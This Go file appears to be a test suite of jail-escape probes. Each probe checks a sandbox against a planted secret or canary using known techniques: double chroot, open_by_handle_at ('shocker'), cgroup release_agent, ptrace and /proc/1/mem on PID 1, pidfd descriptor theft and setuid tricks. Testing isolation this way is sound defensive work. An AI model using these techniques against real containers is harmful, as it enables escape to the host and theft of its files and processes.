package main

import (
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func address(b []byte) uintptr { return uintptr(unsafe.Pointer(&b[0])) }

func cstring(s string) uintptr {
	b, err := unix.BytePtrFromString(s)
	if err != nil {
		panic(err)
	}
	return uintptr(unsafe.Pointer(b))
}

// secretBelow looks for the host's secret file below a directory that may be the
// host's root, or the directory it lies in.
func secretBelow(dir string) (string, error) {
	var last error = errNothing
	for _, path := range []string{target["secret"], "/" + filepath.Base(target["secret"])} {
		text, err := os.ReadFile(dir + path)
		if err == nil && strings.TrimSpace(string(text)) == target["text"] {
			return "read " + dir + path, nil
		}
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			last = err
		}
	}
	return "", last
}

// doubleChroot is chroot(2)'s own example of how not to be held by it.
func doubleChroot() (string, error) {
	dir, err := os.MkdirTemp("/tmp", "attack")
	if err != nil {
		return "", err
	}
	defer os.Remove(dir)
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	if err := unix.Chroot(dir); err != nil {
		return "", fmt.Errorf("chroot: %w", err)
	}
	if err := unix.Fchdir(root); err != nil {
		return "", err
	}
	for range 32 {
		if err := unix.Chdir(".."); err != nil {
			return "", err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return "", err
	}
	detail, err := secretBelow("")
	_ = unix.Fchdir(root)
	return detail, err
}

func mknod() (string, error) {
	path := filepath.Join("/tmp", "attack-node"+strconv.Itoa(os.Getpid()))
	if err := unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 3))); err != nil {
		return "", err
	}
	return "made a device", os.Remove(path)
}

// plantedNode opens a device node that came with the root file system.
func plantedNode(path string) attack {
	return func() (string, error) {
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0)
		if err != nil {
			return "", err
		}
		unix.Close(fd)
		return "opened the host's device", nil
	}
}

// shocker opens a file of the host by its handle, with the rootfs as the mount.
func shocker() (string, error) {
	kind, _ := strconv.Atoi(target["handletype"])
	bytes, err := hex.DecodeString(target["handle"])
	if err != nil {
		return "", err
	}
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.OpenByHandleAt(root, unix.NewFileHandle(int32(kind), bytes), unix.O_RDONLY)
	if err != nil {
		return "", err
	}
	text, err := io.ReadAll(os.NewFile(uintptr(fd), "secret"))
	if err == nil && strings.TrimSpace(string(text)) != target["text"] {
		err = errNothing
	}
	return "read the host's file", err
}

// shocker32 is the same system call of i386's with nothing behind it.
func shocker32() (string, error) {
	handle := make([]byte, 64)
	handle[0] = 8
	_, err := call32(342, uint32(0xffffff9c), low(handle), 0)
	return reached(err, unix.ESTALE, unix.EBADF, unix.EINVAL, unix.EOPNOTSUPP)
}

// releaseAgent opens the program that the host runs as root for an empty cgroup.
func releaseAgent() (string, error) {
	dir, err := os.MkdirTemp("/tmp", "attack")
	if err != nil {
		return "", err
	}
	defer os.Remove(dir)
	var last error
	for _, controller := range []string{"memory", "pids", "devices", "freezer"} {
		if err := unix.Mount("cgroup", dir, "cgroup", 0, controller); err != nil {
			last = fmt.Errorf("mount cgroup: %w", err)
			continue
		}
		last = openWritable(dir + "/release_agent")
		if err := unix.Unmount(dir, 0); err != nil {
			return "", err
		}
		if last == nil {
			return "opened release_agent", nil
		}
	}
	return "", last
}

func cgroup2() (string, error) {
	dir, err := os.MkdirTemp("/tmp", "attack")
	if err != nil {
		return "", err
	}
	defer os.Remove(dir)
	// There is one file system of this kind, and a mount changes its options.
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	_, options, _ := strings.Cut(string(mounts), " - cgroup2 cgroup2 rw")
	options, _, _ = strings.Cut(options, "\n")
	if err := unix.Mount("cgroup2", dir, "cgroup2", 0, strings.TrimPrefix(options, ",")); err != nil {
		return "", err
	}
	err = openWritable(dir + "/cgroup.procs")
	return "opened the host's cgroup.procs", errors.Join(err, unix.Unmount(dir, 0))
}

func openWritable(path string) error {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// writable opens the first of some files that there is, and writes nothing.
func writable(paths ...string) attack {
	return func() (string, error) {
		err := error(unix.ENOENT)
		for _, path := range paths {
			if err = openWritable(path); err == nil {
				return "opened " + path + " for writing", nil
			}
			if err != unix.ENOENT {
				break
			}
		}
		return "", err
	}
}

// readable reads something of a file; the start of it must not be all there is.
func readable(path string) attack {
	return func() (string, error) {
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(fd)
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3) {
			return "", errors.New("it is /dev/null")
		}
		n, err := unix.Read(fd, make([]byte, 8192))
		if err == unix.EAGAIN {
			err, n = nil, 1
		}
		if err == nil && n == 0 {
			err = errNothing
		}
		return "read " + path, err
	}
}

// exeChmod makes the program behind PID 1 set-uid, which a busy file allows.
func exeChmod() (string, error) {
	return "made it set-uid", unix.Chmod("/proc/1/exe", 0o4755)
}

func exeWrite() (string, error) {
	// A program that runs is busy; the attack waits until it has ended.
	return reached(openWritable("/proc/1/exe"), unix.ETXTBSY)
}

func ptracePID1() (string, error) {
	const seize = 0x4206
	if err := call(unix.SYS_PTRACE, seize, 1); err != nil {
		return "", err
	}
	return "attached", nil // and let go at the end of this process
}

func pid1Mem() (string, error) { return "opened for writing", openWritable("/proc/1/mem") }

func pid1Peek() (string, error) {
	// Any address will do: the permission comes first.
	local := make([]byte, 8)
	liov := unix.Iovec{Base: &local[0], Len: 8}
	riov := unix.RemoteIovec{Base: 1, Len: 8}
	_, err := unix.ProcessVMWritev(1, []unix.Iovec{liov}, []unix.RemoteIovec{riov}, 0)
	return reached(err, unix.EFAULT)
}

func pid1Getfd() (string, error) {
	pidfd, err := unix.PidfdOpen(1, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.PidfdGetfd(pidfd, 0, 0)
	if err != nil {
		return "", err
	}
	unix.Close(fd)
	return "took a descriptor", nil
}

// pid1Root and the like walk from PID 1's own places.
func pid1Link(name string) attack {
	return func() (string, error) {
		if _, err := os.ReadDir("/proc/1/" + name); err != nil {
			return "", err
		}
		return "entered", nil
	}
}

// pid1FDs looks through every descriptor of PID 1 for the host's directory.
func pid1FDs() (string, error) {
	entries, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return "", err
	}
	for _, e := range entries {
		if detail, err := secretBelow("/proc/1/fd/" + e.Name()); err == nil {
			return detail, nil
		}
	}
	return "", errNothing
}

// pid1Socket connects to sockets that PID 1 has an O_PATH descriptor of.
func pid1Socket() (string, error) {
	entries, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return "", err
	}
	for _, e := range entries {
		if c, err := net.Dial("unix", "/proc/1/fd/"+e.Name()); err == nil {
			c.Close()
			return "connected by way of /proc/1/fd/" + e.Name(), nil
		}
	}
	return "", errNothing
}

func pid1Environ() (string, error) {
	text, err := os.ReadFile("/proc/1/environ")
	if err != nil {
		return "", err
	}
	if !strings.Contains(string(text), "CANARY=") {
		return "", errNothing
	}
	return "read the host's environment", nil
}

// inherited looks for the host among the descriptors this process was given.
func inherited() (string, error) {
	for fd := 0; fd < 64; fd++ {
		if detail, err := secretBelow(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil {
			return detail, nil
		}
		if unix.Fchdir(fd) != nil {
			continue
		}
		for _, up := range []string{".", "..", "../..", "../../..", "../../../..", "../../../../..", "../../../../../.."} {
			if detail, err := secretBelow(up); err == nil {
				return detail, nil
			}
		}
	}
	return "", errNothing
}

// cwd looks for the host above the directory it was started in.
func cwd() (string, error) {
	wd, err := unix.Getwd()
	if err == nil && !strings.HasPrefix(wd, "/") {
		return "the working directory is outside: " + wd, nil
	}
	up := "."
	for range 16 {
		if detail, err := secretBelow(up); err == nil {
			return detail, nil
		}
		up += "/.."
	}
	return "", errNothing
}

// procFile opens a path for writing that must not lead into procfs.
func procFile() (string, error) {
	fd, err := unix.Open(target["path"], unix.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	var st unix.Statfs_t
	if err := unix.Fstatfs(fd, &st); err != nil {
		return "", err
	}
	if st.Type != unix.PROC_SUPER_MAGIC {
		return "", errNothing
	}
	return target["path"] + " is a file of procfs, and open", nil
}

func euid0() (string, error) {
	if uid := os.Geteuid(); uid != 0 {
		return "", fmt.Errorf("uid %d", uid)
	}
	return "is root", nil
}

// inspect stops every process of its uid over and over, PID 1's children among
// them that have taken on that uid and not yet executed their program, and tries
// to get into those.
func inspect() (string, error) {
	const seize = 0x4206
	defer unix.Kill(-1, unix.SIGCONT)
	seen := make(map[string]bool)
	for end := time.Now().Add(8 * time.Second); time.Now().Before(end) && len(seen) < 3; {
		for range 50 {
			_ = unix.Kill(-1, unix.SIGSTOP)
		}
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return "", err
		}
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == 1 || seen[e.Name()] {
				continue
			}
			dir := "/proc/" + e.Name()
			if comm, _ := os.ReadFile(dir + "/comm"); string(comm) != "jail-init\n" {
				continue
			}
			if status, _ := os.ReadFile(dir + "/status"); !strings.Contains(string(status), fmt.Sprintf("\nUid:\t%d\t", os.Getuid())) {
				continue
			}
			var in []string
			if _, err := os.Readlink(dir + "/exe"); err == nil {
				in = append(in, "saw the program")
			}
			if _, err := os.ReadDir(dir + "/fd"); err == nil {
				in = append(in, "saw the descriptors")
			}
			if openWritable(dir+"/mem") == nil {
				in = append(in, "opened the memory")
			}
			if call(unix.SYS_PTRACE, seize, uintptr(pid)) == nil {
				in = append(in, "attached")
			}
			// It may have executed its program meanwhile, and is fair game then.
			if comm, _ := os.ReadFile(dir + "/comm"); string(comm) != "jail-init\n" {
				continue
			}
			if in != nil {
				return strings.Join(in, ", "), nil
			}
			seen[e.Name()] = true
		}
	}
	return "", fmt.Errorf("caught %d", len(seen))
}

// slipped asks the host's process behind a socket in /tmp who we are, and for a
// descriptor of a process of that identity.
func slipped() (uid uint32, signals uint32, pidfd int, err error) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, 0, -1, err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: "/tmp/slip"}); err != nil {
		return 0, 0, -1, fmt.Errorf("connect /tmp/slip: %w", err)
	}
	data, control := make([]byte, 8), make([]byte, unix.CmsgSpace(4))
	n, cn, _, _, err := unix.Recvmsg(fd, data, control, 0)
	if err != nil || n != 8 {
		return 0, 0, -1, fmt.Errorf("/tmp/slip: %d bytes, %w", n, err)
	}
	messages, err := unix.ParseSocketControlMessage(control[:cn])
	if err != nil || len(messages) != 1 {
		return 0, 0, -1, fmt.Errorf("/tmp/slip: no descriptor: %w", err)
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return 0, 0, -1, err
	}
	return *(*uint32)(unsafe.Pointer(&data[0])), *(*uint32)(unsafe.Pointer(&data[4])), fds[0], nil
}

// foreignGetfd takes the secret out of a process of the host of which it has got
// hold of a pidfd.
func foreignGetfd() (string, error) {
	_, _, pidfd, err := slipped()
	if err != nil {
		return "", err
	}
	fd, err := unix.PidfdGetfd(pidfd, 3, 0)
	if err != nil {
		return "", err
	}
	b := make([]byte, 256)
	n, err := unix.Pread(fd, b, 0)
	if err == nil && strings.TrimSpace(string(b[:n])) != target["text"] {
		err = errNothing
	}
	return "read the secret", err
}

// signalGroup signals everybody it can name.
func signalGroup() (string, error) {
	_, before, _, err := slipped()
	if err != nil {
		return "", err
	}
	_ = unix.Kill(0, unix.SIGWINCH)
	_ = unix.Kill(-1, unix.SIGWINCH)
	if pid, err := strconv.Atoi(target["hostpid"]); err == nil {
		_ = unix.Kill(pid, unix.SIGWINCH)
		_ = unix.Kill(-pid, unix.SIGWINCH)
	}
	time.Sleep(50 * time.Millisecond)
	_, after, _, err := slipped()
	if err == nil && after == before {
		err = errNothing
	}
	return "a process of the host got the signal", err
}

// becomeAnother takes another uid and asks the host whether it is that one.
func becomeAnother() (string, error) {
	uid, err := strconv.Atoi(target["victim"])
	if err != nil {
		return "", err
	}
	if err := call(unix.SYS_SETRESUID, uintptr(uid), uintptr(uid), uintptr(uid)); err != nil {
		return "", err
	}
	seen, _, _, err := slipped()
	if err == nil && seen != uint32(uid) {
		err = fmt.Errorf("for the host it is uid %d", seen)
	}
	return "is that uid for the host", err
}

// setuidRoot runs a set-uid program of the rootfs, this one.
func setuidRoot() (string, error) {
	if os.Geteuid() != 0 {
		if target["suid"] != "" { // tried already
			return "", fmt.Errorf("still uid %d", os.Geteuid())
		}
		args := []string{"suid", "one", "suid=tried"}
		return "", unix.Exec("/usr/local/bin/suid", append(args, "S16-setuid"), os.Environ())
	}
	seen, _, _, err := slipped()
	if err == nil && seen != 0 {
		err = fmt.Errorf("for the host it is uid %d", seen)
	}
	return "is root for the host", err
}

// fillShm asks for more memory than a jail's /dev/shm has.
func fillShm() (string, error) {
	path := fmt.Sprintf("/dev/shm/attack.%d", os.Getpid())
	fd, err := unix.Open(path, unix.O_RDWR|unix.O_CREAT|unix.O_EXCL, 0o600)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	defer unix.Unlink(path)
	return "took 65 MiB", unix.Fallocate(fd, 0, 0, 65<<20)
}
